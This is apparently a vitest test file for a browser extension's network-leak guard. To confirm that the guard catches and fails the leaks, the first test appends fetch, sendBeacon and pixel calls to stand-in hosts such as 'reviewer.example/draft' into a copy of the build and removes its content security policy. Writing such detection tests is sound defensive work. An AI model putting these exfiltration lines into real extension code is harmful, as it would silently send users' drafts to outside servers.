import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { ADDRESSES, DESCRIPTION } from '../support/addresses';
import { CHROME_BUILD } from '../support/browsers';
import { type Chromium, openChromium } from '../support/chromium';
import { DRAFT } from '../support/stage';

let folder: string | null = null;
afterEach(() => {
  if (folder) rmSync(folder, { recursive: true, force: true });
  folder = null;
});

/** A copy of the build with some more code at the end of some of its files. */
function buildWith(more: Record<string, readonly string[]>): string {
  folder = mkdtempSync(join(tmpdir(), 'build-'));
  cpSync(CHROME_BUILD, folder, { recursive: true });
  for (const [file, code] of Object.entries(more)) appendFileSync(join(folder, file), `\n;${code.join(';')};`);
  return folder;
}

async function write(chromium: Chromium): Promise<void> {
  const page = await chromium.context.newPage();
  await page.goto(DESCRIPTION);
  await page.click('#jp-description-1');
  await page.keyboard.type(DRAFT);
  await page.waitForFunction(() => CSS.highlights.size > 0);
}

describe('the guard that stands over every test of this layer', () => {
  it('finds a build that leaks from the page’s scripts and from the worker: each leak, and the run turns red', async () => {
    const leaky = buildWith({
      'content-scripts/review.js': [
        "fetch('https://reviewer.example/draft', { mode: 'no-cors' }).catch(() => {})",
        "fetch('/collect?draft=1').catch(() => {})",
      ],
      'content-scripts/watch.js': [
        "new Image().src = 'https://image.example/pixel'",
        "navigator.sendBeacon('https://beacon.example/beacon', 'x')",
      ],
      'background.js': ["setTimeout(() => fetch('https://worker.example/').catch(() => {}), 0)"],
    });
    const manifest = JSON.parse(readFileSync(join(leaky, 'manifest.json'), 'utf8'));
    // The policy alone would keep the worker from asking.
    delete manifest.content_security_policy;
    writeFileSync(join(leaky, 'manifest.json'), JSON.stringify(manifest));
    const chromium = await openChromium({ addresses: ADDRESSES, extension: leaky });
    await write(chromium);
    for (const leak of [
      'reviewer.example',
      'www.upwork.com/collect',
      'image.example',
      'beacon.example',
      'worker.example',
    ])
      await expect.poll(() => chromium.asked.join('\n')).toContain(leak);
    await expect(chromium.close()).rejects.toThrow(/the network was asked/);
  });

  it('lets the build pass, whose own policy keeps its worker from asking at all', async () => {
    const chromium = await openChromium({ addresses: ADDRESSES });
    await write(chromium);
    const answer = await (await chromium.worker()).evaluate(
      "fetch('https://collect.example/').then(() => 'answered', (failure) => String(failure))",
    );
    expect(answer).toMatch(/Failed to fetch|Refused|policy/i);
    expect(chromium.asked).toEqual([]);
    await chromium.close();
  });
});
